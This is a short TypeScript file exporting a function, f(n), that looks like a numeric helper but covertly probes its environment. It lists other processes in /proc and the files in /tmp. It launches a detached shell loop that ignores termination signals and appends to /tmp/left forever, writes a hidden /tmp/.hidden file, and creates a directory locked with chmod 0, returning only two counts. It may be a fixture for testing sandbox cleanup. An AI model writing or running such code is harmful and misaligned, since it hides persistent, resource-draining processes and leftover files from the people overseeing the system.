import { readdirSync } from "fs";
import { execFileSync, spawn } from "child_process";

export function f(n: number): number[] {
  const isOther = (name: string): boolean => /^[0-9]+$/.test(name) && name !== "1" && name !== `${process.pid}`;
  const others: string[] = readdirSync("/proc").filter(isOther);
  const files: string[] = readdirSync("/tmp");
  const loop = "trap '' TERM; while :; do echo x >> /tmp/left; sleep 0.01; done";
  spawn("/bin/sh", ["-c", loop], { detached: true, stdio: "ignore" }).unref();
  execFileSync("/bin/sh", ["-c", "echo hidden > /tmp/.hidden; mkdir -p /tmp/a/b/c; chmod 0 /tmp/a"]);
  return [others.length, files.length];
}
